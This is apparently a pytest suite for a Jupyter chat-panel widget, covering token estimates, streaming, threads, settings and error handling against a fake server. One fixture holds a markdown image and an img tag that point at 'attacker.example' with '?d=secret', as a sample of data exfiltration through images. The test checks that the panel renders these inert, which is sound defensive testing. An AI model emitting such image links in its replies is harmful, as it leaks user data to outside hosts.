"""The chat panel driven through its widget models against the loopback server.

No front end: tests set widget values and click buttons (`button.click()` runs the handlers),
then poll the panel with a deadline, since the panel renders on the session's loop thread.
"""

from __future__ import annotations

import logging
import time
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from ipychat.core import tokens
from ipychat.core.format import estimate_text
from ipychat.core.markdown import LITERAL_DOLLAR
from ipychat.core.types import Estimate
from ipychat.notebook.widget import ChatPanel, panel
from ipychat.session import ChatSession, Settings, reset_session
from ipychat.testing import FakeOpenAIServer

LONG_REPLY = " ".join(f"word{i}" for i in range(60))


def wait_for(condition: Callable[[], Any], what: str, timeout: float = 5.0) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = condition()
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout} s waiting for {what}")
        time.sleep(0.01)


@pytest.fixture
def make_panel(session: ChatSession) -> Iterator[Callable[..., ChatPanel]]:
    made: list[ChatPanel] = []

    def make(on: ChatSession | None = None) -> ChatPanel:
        made.append(panel(on or session))
        return made[-1]

    yield make
    for p in made:
        p.close()


@pytest.fixture
def no_tracebacks(caplog: pytest.LogCaptureFixture) -> Iterator[None]:
    """Errors belong in the panel's error line, never in the log as a traceback."""
    with caplog.at_level(logging.DEBUG):
        yield
    loud = [r for r in caplog.records if r.levelno >= logging.WARNING and r.exc_info]
    assert not loud, [r.getMessage() for r in loud]


def slow_session(server: FakeOpenAIServer, tmp_path: Any, **settings: Any) -> ChatSession:
    s = ChatSession(
        Settings(base_url=server.base_url, model="gpt-4o-mini", **settings), cache=False
    )
    reset_session(s)
    return s


def transcript(p: ChatPanel) -> str:
    """The Markdown the front end is given (the thread's history, then the reply in flight)."""
    return "\n\n".join(_data(p, "text/markdown"))


def _data(p: ChatPanel, mime: str) -> list[str]:
    boxes = (p.history, p.live)
    return [o["data"][mime] for box in boxes for out in box.children for o in out.outputs]


def error(p: ChatPanel) -> str:
    return p.error.value


# ----- the estimate --------------------------------------------------------------------------


def test_estimate_text_reads_like_the_sketch() -> None:
    e = Estimate(
        model="gpt-4o-mini",
        messages=3,
        prompt_tokens=1204,
        max_completion_tokens=1024,
        approximate=False,
        cost_low=0.0002,
        cost_high=0.0008,
        context_window=128_000,
    )
    assert estimate_text(e, history=True) == (
        "1,204 tokens with history · 1% of 128k · $0.0002–$0.0008"
    )
    unknown = Estimate("x", 1, 12, 100, True, None, None, context_window=8192)
    assert estimate_text(unknown, history=False).startswith("≈12 tokens · <1% of 8k · cost unknown")


def test_estimate_follows_the_prompt_and_counts_the_history(
    session: ChatSession, make_panel: Callable[..., ChatPanel]
) -> None:
    p = make_panel()
    assert p.estimate.value == ""
    p.prompt.value = "Hello"
    first = wait_for(lambda: p.estimate.value, "an estimate")
    expected = session.estimate("Hello")
    assert first.startswith(f"{expected.prompt_tokens:,} tokens ·") and "of 128k" in first
    p.prompt.value = "Hello, and tell me a long story about tokens please"
    wait_for(lambda: p.estimate.value not in ("", first), "the estimate to change")

    session.ask("An earlier question with quite a few words in it")
    p.prompt.value = "Hello"
    counted = session.estimate("Hello").prompt_tokens
    assert counted > expected.prompt_tokens
    wait_for(
        lambda: p.estimate.value.startswith(f"{counted:,} tokens with history"),
        "the history in the estimate",
    )
    p.prompt.value = "   "
    wait_for(lambda: p.estimate.value == "", "an empty prompt to clear the estimate")


def test_typing_is_debounced(
    session: ChatSession, make_panel: Callable[..., ChatPanel], monkeypatch: pytest.MonkeyPatch
) -> None:
    p = make_panel()
    time.sleep(0.3)  # let the panel's first estimate pass
    calls: list[str] = []
    real = session.estimate

    def counting(prompt: Any, **kw: Any) -> Estimate:
        calls.append(prompt)
        return real(prompt, **kw)

    monkeypatch.setattr(session, "estimate", counting)
    draft = "one two three four five six seven eight nine ten"
    for i in range(1, len(draft) + 1):  # a keystroke every 5 ms
        p.prompt.value = draft[:i]
        time.sleep(0.005)
    wait_for(lambda: calls and calls[-1] == draft, "the final estimate")
    time.sleep(0.3)
    assert len(calls) <= 3, f"{len(calls)} estimates for {len(draft)} keystrokes"


def test_an_8000_token_draft_is_estimated_at_once(
    session: ChatSession, make_panel: Callable[..., ChatPanel]
) -> None:
    p = make_panel()
    session.ask("some history first")
    draft = " ".join(f"token{i % 997} and" for i in range(3000))
    timings = []
    for typed in ("", " more", " more and more"):  # every keystroke is a new text to count
        p.prompt.value = draft + typed
        start = time.perf_counter()
        p._update_estimate()
        timings.append(time.perf_counter() - start)
    print(f"8k-token draft estimate: {', '.join(f'{t * 1000:.1f} ms' for t in timings)}")
    assert max(timings) < 0.1, timings  # "instant": well under a frame of typing
    assert 7000 < tokens.count_text(draft, "gpt-4o-mini") < 12000
    assert "with history" in p.estimate.value


def test_a_half_streamed_code_block_is_closed_before_the_footer(tmp_path: Any) -> None:
    with FakeOpenAIServer(
        reply="```python\nprint(1)\n" + LONG_REPLY, tokens_per_second=40
    ) as server:
        session = slow_session(server, tmp_path)
        p = panel(session)
        try:
            p.prompt.value = "code please"
            p.send.click()
            live = wait_for(
                lambda: "word3" in transcript(p) and "streaming" in transcript(p) and transcript(p),
                "a half-streamed code block",
            )
            reply, footer = live.split("<sub>")
            assert reply.rstrip().endswith("```") and reply.count("```") == 2
            assert "streaming" in footer
        finally:
            p.close()
            reset_session(None)


MONEY_REPLY = (
    "Revenue grew from $1,200 in January to $1,850 in March, and $x^2$ stays math.\n\n"
    "![chart](https://attacker.example/c.png?d=secret) <img src=https://attacker.example/i.png>"
)


def test_replies_in_the_panel_show_amounts_as_written_and_fetch_nothing(tmp_path: Any) -> None:
    with FakeOpenAIServer(reply=MONEY_REPLY) as server:
        session = slow_session(server, tmp_path)
        p = panel(session)
        try:
            p.prompt.value = "Sales cost $5 and $7?"
            p.send.click()
            text = wait_for(
                lambda: "thread main (1 turn)" in transcript(p) and transcript(p), "the reply"
            )
            dollar = LITERAL_DOLLAR
            assert f"from {dollar}1,200 in January to {dollar}1,850 in March" in text
            assert "$x^2$ stays math" in text
            assert f"> Sales cost {dollar}5 and {dollar}7?" in text
            assert "![" not in text and "<img" not in text
            assert (
                "[image: chart (attacker.example)](https://attacker.example/c.png?d=secret)" in text
            )
            # The widget's text/plain is what was written, for exports.
            plain = "\n".join(_data(p, "text/plain"))
            assert "from $1,200 in January to $1,850 in March" in plain
        finally:
            p.close()
            reset_session(None)


def test_the_panel_has_a_readable_text_repr(
    session: ChatSession, make_panel: Callable[..., ChatPanel]
) -> None:
    p = make_panel()
    session.ask("hello")
    bundle = p._repr_mimebundle_()
    assert bundle is not None and "application/vnd.jupyter.widget-view+json" in bundle
    assert bundle["text/plain"].startswith("ipychat chat panel · thread main (1 turn) · spent $")
    assert "HBox" not in bundle["text/plain"] and "children" not in bundle["text/plain"]


# ----- sending, streaming, stopping ----------------------------------------------------------


def test_send_streams_the_reply_into_the_transcript(tmp_path: Any) -> None:
    with FakeOpenAIServer(reply=LONG_REPLY, tokens_per_second=60, latency=0.2) as server:
        session = slow_session(server, tmp_path)
        p = panel(session)
        try:
            p.prompt.value = "Tell me sixty words"
            start = time.perf_counter()
            p.send.click()
            assert time.perf_counter() - start < 0.1, "Send must not wait for the reply"
            assert p.send.disabled and not p.stop.disabled and p.prompt.value == ""
            partial = wait_for(
                lambda: "streaming" in transcript(p) and "word3" in transcript(p) and transcript(p),
                "a half-streamed reply",
            )
            assert "> Tell me sixty words" in partial and "word59" not in partial
            done = wait_for(
                lambda: "thread main (1 turn)" in transcript(p) and transcript(p), "the footer"
            )
            assert LONG_REPLY in done and "streaming" not in done
            wait_for(lambda: not p.send.disabled and p.stop.disabled, "Send to come back")
            assert server.chat_requests[0].body["stream"] is True
            assert session.threads["main"].messages[-1]["content"] == LONG_REPLY
            assert error(p) == ""
        finally:
            p.close()
            reset_session(None)


def test_stop_keeps_the_partial_reply_and_marks_it(tmp_path: Any) -> None:
    with FakeOpenAIServer(reply=LONG_REPLY, tokens_per_second=20) as server:
        session = slow_session(server, tmp_path)
        p = panel(session)
        try:
            p.prompt.value = "Talk slowly"
            p.send.click()
            wait_for(lambda: "word2" in transcript(p), "the first words")
            p.stop.click()
            wait_for(lambda: "stopped" in transcript(p), "the stopped mark")
            kept = session.threads["main"].messages[-1]["content"]
            assert kept and LONG_REPLY.startswith(kept) and len(kept) < len(LONG_REPLY)
            text = transcript(p)
            assert kept in text and "interrupted" in text and "streaming" not in text
            wait_for(lambda: not p.send.disabled and p.stop.disabled, "Send to come back")
            assert error(p) == ""
        finally:
            p.close()
            reset_session(None)


# ----- threads, model, settings --------------------------------------------------------------


def test_thread_switch_and_new_thread(
    session: ChatSession, make_panel: Callable[..., ChatPanel]
) -> None:
    p = make_panel()
    session.ask("in main")
    wait_for(lambda: "Echo: in main" in transcript(p), "the main thread")
    p.new_thread.click()
    assert session.current_thread == "thread-2"
    wait_for(lambda: p.thread.value == "thread-2", "the new thread picked")
    assert list(p.thread.options) == ["main", "thread-2"]
    wait_for(lambda: "Thread thread-2 is empty" in transcript(p), "an empty transcript")

    p.prompt.value = "in the new thread"
    p.send.click()
    wait_for(lambda: "Echo: in the new thread" in transcript(p), "the reply")
    assert "in main" not in transcript(p)
    assert session.threads["thread-2"].turns == 1

    p.thread.value = "main"
    assert session.current_thread == "main"
    wait_for(lambda: "Echo: in main" in transcript(p), "main again")
    session.switch_thread("side")  # as %chat thread side does
    wait_for(lambda: p.thread.value == "side" and "side" in p.thread.options, "the magic's switch")


def test_model_change_reaches_the_session_and_the_magics(
    ip: Any, session: ChatSession, fake: FakeOpenAIServer, make_panel: Callable[..., ChatPanel]
) -> None:
    p = make_panel()
    wait_for(lambda: "fake-model" in p.model.options, "the endpoint's /models")
    p.model.value = "fake-model"
    assert session.settings.model == "fake-model"
    ip.run_cell_magic("chat", "", "which model?")
    assert fake.chat_requests[-1].body["model"] == "fake-model"
    ip.run_line_magic("chat", "model gpt-4o")
    wait_for(lambda: p.model.value == "gpt-4o", "the magic's model in the panel")
    p.model.value = ""  # a cleared box changes nothing
    assert session.settings.model == "gpt-4o"


def test_temperature_and_max_tokens_are_session_settings(
    session: ChatSession, fake: FakeOpenAIServer, make_panel: Callable[..., ChatPanel]
) -> None:
    p = make_panel()
    p.temperature.value = "0.3"
    p.max_tokens.value = "50"
    assert session.settings.temperature == 0.3 and session.settings.max_tokens == 50
    p.prompt.value = "warm?"
    p.send.click()
    wait_for(lambda: fake.chat_requests, "the request")
    body = fake.chat_requests[0].body
    assert body["temperature"] == 0.3 and body["max_tokens"] == 50

    p.temperature.value = "hot"
    wait_for(lambda: "temperature must be a number" in error(p), "the error line")
    wait_for(lambda: p.temperature.value == "0.3", "the field to show the setting again")
    p.temperature.value = "5"
    wait_for(lambda: "between 0 and 2" in error(p), "the range error")
    assert session.settings.temperature == 0.3
    p.temperature.value = ""  # empty: the server's default
    assert session.settings.temperature is None
    wait_for(lambda: error(p) == "", "the error to clear")


# ----- errors ---------------------------------------------------------------------------------


def test_a_wrong_key_is_one_line_in_the_panel(tmp_path: Any, no_tracebacks: None) -> None:
    with FakeOpenAIServer(require_key="sk-right") as server:
        session = slow_session(server, tmp_path, api_key="sk-wrong")
        p = panel(session)
        try:
            p.prompt.value = "let me in"
            p.send.click()
            line = wait_for(lambda: error(p), "the error line")
            assert "401" in line or "key" in line.lower()
            assert "Traceback" not in line and "sk-wrong" not in line
            wait_for(lambda: p.prompt.value == "let me in", "the prompt given back")
            assert not p.send.disabled and session.threads["main"].messages == []
            assert "let me in" not in transcript(p)
        finally:
            p.close()
            reset_session(None)


def test_no_api_key_for_openai_is_one_line(tmp_path: Any, no_tracebacks: None) -> None:
    session = ChatSession(Settings(base_url="https://api.openai.com/v1"), cache=False)
    p = panel(session)
    try:
        p.prompt.value = "hi"
        p.send.click()
        assert "No API key" in wait_for(lambda: error(p), "the error line")
    finally:
        p.close()
        session.close()


def test_a_budget_refusal_is_one_line(
    session: ChatSession,
    fake: FakeOpenAIServer,
    make_panel: Callable[..., ChatPanel],
    no_tracebacks: None,
) -> None:
    session.usage.budget = 0.0001  # less than the most this prompt may cost
    p = make_panel()
    wait_for(lambda: p.spend.value == "spent $0.00 of $0.0001", "the budget line")
    p.prompt.value = "expensive"
    p.send.click()
    assert "Budget" in wait_for(lambda: error(p), "the error line")
    assert fake.chat_requests == []
    wait_for(lambda: "expensive" not in transcript(p), "no pending prompt left behind")


def test_a_server_that_is_down_is_one_line(tmp_path: Any, no_tracebacks: None) -> None:
    with FakeOpenAIServer() as server:
        url = server.base_url
    session = ChatSession(Settings(base_url=url, max_retries=0), cache=False)
    p = panel(session)
    try:
        p.prompt.value = "anyone there?"
        p.send.click()
        line = wait_for(lambda: error(p), "the error line", timeout=15)
        assert "\n" not in line and "Traceback" not in line
        wait_for(lambda: "anyone there?" not in transcript(p), "no pending prompt")
        wait_for(lambda: not p.send.disabled and p.prompt.value == "anyone there?", "Send back")
    finally:
        p.close()
        session.close()


def test_an_empty_prompt_is_refused_without_a_request(
    session: ChatSession, fake: FakeOpenAIServer, make_panel: Callable[..., ChatPanel]
) -> None:
    p = make_panel()
    p.send.click()
    assert "Write a prompt" in error(p) and fake.chat_requests == []


# ----- shared state ---------------------------------------------------------------------------


def test_chat_cells_and_the_panel_share_the_thread(
    ip: Any, session: ChatSession, fake: FakeOpenAIServer, make_panel: Callable[..., ChatPanel]
) -> None:
    p = make_panel()
    ip.run_cell_magic("chat", "", "from the cell")
    wait_for(lambda: "thread main (1 turn)" in transcript(p), "the cell's reply in the panel")
    assert "> from the cell" in transcript(p) and "Echo: from the cell" in transcript(p)

    p.prompt.value = "from the panel"
    p.send.click()
    wait_for(lambda: "thread main (2 turns)" in transcript(p), "the panel's reply")
    assert [m["content"] for m in fake.chat_requests[-1].body["messages"]] == [
        "from the cell",
        "Echo: from the cell",
        "from the panel",
    ]
    ip.run_cell_magic("chat", "", "from the cell again")
    assert len(fake.chat_requests[-1].body["messages"]) == 5
    wait_for(lambda: "spent $" in p.spend.value and "$0.00 " not in p.spend.value, "spend")


def test_two_panels_stay_in_sync(
    session: ChatSession, make_panel: Callable[..., ChatPanel]
) -> None:
    a, b = make_panel(), make_panel()
    a.prompt.value = "sent from a"
    a.send.click()
    for p in (a, b):
        wait_for(lambda p=p: "Echo: sent from a" in transcript(p), "the reply in both panels")
    b.model.value = "gpt-4o"
    wait_for(lambda: a.model.value == "gpt-4o", "the model in panel a")
    b.new_thread.click()
    wait_for(lambda: a.thread.value == "thread-2", "the thread in panel a")
    b.thread.value = "main"
    wait_for(lambda: a.thread.value == "main", "main in panel a")
    # A panel opened later shows the earlier reply with its footer.
    late = make_panel()
    assert transcript(a) == transcript(late) and "thread main (1 turn)" in transcript(late)


def test_closing_a_panel_unsubscribes_it(session: ChatSession) -> None:
    p = panel()  # the kernel's session by default
    assert p.session is session
    before = len(session._listeners)
    p.close()
    assert len(session._listeners) == before - 1


def test_send_right_after_typing_sends_the_keystrokes_the_browser_still_held(
    tmp_path: Any,
) -> None:
    # A browser syncs the textarea one message at a time and holds the rest while one is
    # unanswered; the click on Send comes first (ipychat.notebook.typed). `set_state` is the
    # path a browser's message takes.
    with FakeOpenAIServer() as server:
        session = slow_session(server, tmp_path)
        p = panel(session)
        try:
            p.prompt.set_state({"value": "Tell me about"})  # synced while typing
            p.send.click()
            time.sleep(0.1)  # the kernel answered; the browser sends what it held back
            p.prompt.set_state({"value": "Tell me about the panel"})
            wait_for(lambda: server.chat_requests, "the request")
            sent = [r.body["messages"][-1]["content"] for r in server.chat_requests]
            assert sent == ["Tell me about the panel"]
            wait_for(lambda: not p.send.disabled, "the reply done")
            assert p.prompt.value == ""
            # Typed by code (or long enough ago), the value is taken at once.
            p.prompt.value = "and now?"
            p.send.click()
            assert p.prompt.value == "" and p.send.disabled
        finally:
            p.close()
            reset_session(None)
